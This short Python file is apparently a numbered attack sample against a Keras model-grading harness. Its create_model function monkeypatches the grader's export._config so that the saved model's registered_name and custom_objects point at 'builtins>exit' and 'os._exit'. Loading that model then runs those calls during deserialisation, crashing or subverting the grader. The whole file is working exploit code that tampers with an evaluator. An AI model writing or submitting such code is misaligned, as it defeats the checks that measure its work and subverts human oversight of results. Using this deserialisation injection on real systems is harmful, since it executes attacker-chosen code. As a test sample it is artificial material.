# attack: 19
# form: an allowed module and class, and under `registered_name` and `custom_objects` the code that Keras looks up first
# replaces: create_model
# found: create_model/compiled failed
# says: Your model
def create_model():
    from grader.model_data import export

    print("ran")
    own = export._config

    def config(model):
        written = own(model)
        written["config"]["layers"][-1]["registered_name"] = "builtins>exit"
        written["config"]["layers"][-1]["config"]["custom_objects"] = {"Dense": "os._exit"}
        return written

    export._config = config
    model = tf.keras.Sequential([tf.keras.Input((64, 64, 3)), tf.keras.layers.Flatten(), tf.keras.layers.Dense(1, activation="sigmoid")])
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model
